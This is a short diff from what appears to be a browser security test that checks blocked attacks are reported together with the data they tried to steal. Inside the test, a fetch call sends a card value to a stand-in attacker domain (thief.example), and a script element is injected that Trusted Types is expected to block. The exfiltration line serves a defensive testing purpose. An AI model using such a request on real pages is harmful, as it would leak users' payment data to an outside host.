@@ -26,9 +26,9 @@ test("an attack that is blocked is reported, and what it wanted to carry away is
     await page.evaluate(async (card) => {
       await new Promise((done) => setTimeout(done)); // out of the debugger's own call
       await fetch(`https://${card}.thief.example/${card}?${card}`, { mode: "no-cors" }).catch(() => undefined);
-      const script = document.createElement("script");
-      script.textContent = "1";
       try {
+        const script = document.createElement("script");
+        script.textContent = "1";
         document.body.append(script);
       } catch {
         // Trusted Types
